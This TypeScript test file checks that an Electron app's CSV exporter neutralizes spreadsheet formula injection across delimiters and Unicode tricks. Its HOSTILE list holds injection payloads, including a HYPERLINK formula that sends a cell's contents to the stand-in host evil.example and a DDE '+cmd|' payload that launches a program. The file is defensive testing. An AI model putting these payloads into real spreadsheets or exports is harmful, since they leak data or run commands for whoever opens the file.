// The CSV exports' formula guard (electron/core/stats/spreadsheet.ts, used by the statistics and batch summary CSVs):
// the real file is written, then read back with papaparse the way spreadsheets in different locales split it
// (",", ";" as in German or French Excel, tab and "|" as import dialogs offer), and no cell any of them sees may
// start, after spaces, with a formula character.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import Papa from 'papaparse';
import { csvSafe, writeCsv } from '../../electron/core/stats/spreadsheet.js';
import { tempDir } from '../helpers/vault.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '   +cmd|\' /C calc\'!A0',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '\uFEFF@x',
  '＝１＋１',
  '＋SUM(A1)',
  '－1+1',
  '＠SUM(1)',
  '\uFE66cmd',
  '张三;=HYPERLINK("http://evil.example","点击")',
  '客服,=1+1',
  'a\t=1+1',
  'a|=1+1',
  'a; \u00A0-1+1',
  '第一行\n=1+1',
  'x;＝１＋１',
];
const HARMLESS = ['-12.50', '+86', '1,5', '张三', '6222 0212 3456 7890', 'a=b', 'ok; fine', 'a;-5', 'x-y@z'];

/** A cell as a spreadsheet would judge it: without the spaces and invisible characters before it, in NFKC form. */
const judged = (cell: string) => cell.replace(/^["\s\p{Cf}]+/u, '').normalize('NFKC');
const isFormula = (cell: string) => {
  const c = judged(cell);
  return /^[=+\-@]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(c.trim());
};

describe('CSV formula guard, checked on the written file in every dialect', () => {
  let dir: Awaited<ReturnType<typeof tempDir>>;
  let text: string;
  before(async () => {
    dir = await tempDir();
    const path = join(dir.path, 'summary.csv');
    await writeCsv(path, ['名称', 'note', '=header'], [...HOSTILE, ...HARMLESS].map((cell, i) => [`row ${i}`, cell, i]));
    text = (await readFile(path, 'utf8')).replace(/^\uFEFF/, '');
  });
  after(() => dir.cleanup());

  for (const delimiter of [',', ';', '\t', '|']) {
    it(`read with "${delimiter === '\t' ? '\\t' : delimiter}" as the separator, no cell is a formula`, () => {
      const rows = Papa.parse<string[]>(text, { delimiter, newline: '\r\n' }).data;
      const cells = rows.flat().flatMap((c) => c.split(/\r\n|\n|\r/));
      assert.ok(cells.length > 20);
      const formulas = cells.filter(isFormula);
      assert.deepEqual(formulas, [], `cells a spreadsheet would run: ${JSON.stringify(formulas)}`);
    });
  }

  it('read the way it was written, every cell is the original with only apostrophes added', () => {
    const rows = Papa.parse<string[]>(text, { newline: '\r\n', skipEmptyLines: true }).data;
    assert.deepEqual(rows[0], ['名称', 'note', "'=header"]);
    const cells = rows.slice(1).map((r) => r[1]!);
    assert.equal(cells.length, HOSTILE.length + HARMLESS.length);
    cells.forEach((cell, i) => {
      const original = [...HOSTILE, ...HARMLESS][i]!;
      if (i >= HOSTILE.length) assert.equal(cell, original, 'harmless cells are unchanged');
      else {
        assert.notEqual(cell, original, `${JSON.stringify(original)} is neutralized`);
        assert.equal(cell.replace(/'/g, ''), original.replace(/'/g, ''), 'nothing but apostrophes added');
      }
    });
  });

  it('csvSafe keeps numbers as numbers and plain negative amounts as they are', () => {
    assert.equal(csvSafe(42), 42);
    assert.equal(csvSafe(null), null);
    assert.equal(csvSafe('-12.50'), '-12.50');
    assert.equal(csvSafe('=1+1'), "'=1+1");
    assert.equal(csvSafe(' ＝1'), " '＝1");
    assert.equal(csvSafe('a;=1'), "a;'=1");
  });
});
